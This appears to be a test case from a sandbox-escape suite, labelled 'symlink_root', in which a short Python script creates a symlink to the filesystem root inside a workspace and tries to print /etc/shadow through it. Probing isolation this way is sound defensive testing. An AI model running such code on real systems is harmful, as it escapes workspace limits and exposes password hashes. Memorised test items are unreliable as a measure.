# attack: symlink_root
# category: link_escape
# kind: link_escape
# readback: rootlink/etc/shadow
# describe: a symlink to / in the workspace
import os
os.symlink("/", "rootlink")
try:
    print(open("rootlink/etc/shadow").read())
except OSError as e:
    print(e)
